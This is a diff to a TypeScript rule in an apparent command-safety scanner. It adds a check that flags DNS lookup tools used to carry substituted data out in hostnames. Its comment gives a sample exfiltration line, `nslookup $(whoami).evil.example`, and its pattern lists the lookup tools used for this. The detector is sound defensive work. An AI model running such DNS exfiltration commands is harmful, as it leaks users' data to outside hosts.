@@ -62,6 +62,13 @@ export const credentials: CommandRule = ({ commands }) => {
     findings.push({ tag: 'network_exfiltration', ...CRITICAL, reason: 'sends keys, passwords or the environment out' });
   else if (sent.some(sendsFile))
     findings.push({ tag: 'network_exfiltration', ...SERIOUS, reason: 'sends a file of this machine out' });
+  if (commands.some(asksInNames)) {
+    findings.push({
+      tag: 'network_exfiltration',
+      ...SERIOUS,
+      reason: 'sends data out as a part of a name it looks up',
+    });
+  }
   if (reads && sent.length > 0 && !sendsSecret) {
     findings.push({
       tag: 'network_exfiltration',
@@ -71,6 +78,15 @@ export const credentials: CommandRule = ({ commands }) => {
   }
   return findings;
 };
+
+/** `nslookup $(whoami).evil.example` */
+function asksInNames({ name, args, substituted }: RunCommand): boolean {
+  return (
+    /^(?:dig|nslookup|host|ping6?|drill|getent|Resolve-DnsName)$/.test(name) &&
+    substituted.some((from) => from.name !== 'hostname') &&
+    args.some((arg) => /\0\.[\w-]+\.[\w.-]+$/.test(arg))
+  );
+}
 
 /** What keys are called where nobody knows the folder. */
 const KEY_NAMES =
